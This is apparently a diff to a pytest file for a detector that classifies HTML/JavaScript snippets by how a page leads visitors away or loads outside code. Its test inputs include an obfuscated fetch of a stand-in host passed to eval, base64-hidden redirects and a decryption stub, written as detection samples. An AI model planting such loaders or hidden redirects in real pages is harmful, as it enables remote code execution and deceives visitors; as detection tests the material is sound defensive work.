@@ -115,9 +115,11 @@ def test_programs_of_old_browsers(page):
     ("<script>location='ms-x:y'</script>", "calls a program"),
     ("<p>Wait</p><script>document.body.append(Object.assign(document.createElement('iframe'),{src:'https://a.example/'}))</script>",
      "is filled by another page"),
-    ("<p>Wait</p><script>self['fet'+'ch']('https://a.example/').then(r=>r.text()).then(eval)</script>", "gets its code from elsewhere"),
+    ("<p>Wait</p><script>self['fet'+'ch']('https://a.example/').then(eval)</script>", "gets its code from elsewhere"),
+    ("<p>Wait</p><script>self['fet'+'ch']('https://a.example/').then(r=>r.text()).then(eval)</script>", "leaves for another page"),
+    (WORDS[:400] + "<button onclick=\"location=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')\">Open</button>", "leads on to an address that it hides"),
     ("<p>Wait</p><script>for(i=0;i<1e10;i++);location=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')</script>", "is busy for longer than any page of its size"),
-    ("<p>Wait</p><script>crypto.subtle.decrypt({},k,new Uint8Array(99))</script>", "deciphers what it holds"),
+    (WORDS + "<script>crypto.subtle.decrypt({},k,new Uint8Array(99))</script>", "deciphers what it holds"),
 ])
 def test_played_pages_that_lead_away(source, way):
     assert seen(source) == way
@@ -132,6 +134,8 @@ def test_played_pages_that_lead_away(source, way):
     "<script>if(/Android/.test(navigator.userAgent))location.href='https://m.example/'</script>",
     "<p>Hi</p><script>var s=document.createElement('script');s.src='https://www.google-analytics.com/analytics.js';document.head.append(s)</script>",
     "<button onclick=\"location='https://a.example/'\">Go</button>",
+    WORDS + "<button onclick=\"location=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')\">Go</button>",
+    WORDS + "<button onclick='crypto.subtle.decrypt({},k,new Uint8Array(99))'>Go</button>",
     "<script>document.write('" + "There is something to read here. " * 9 + "<img src=https://a.example/a.png>')</script>",
 ])
 def test_played_pages_that_do_not(source):
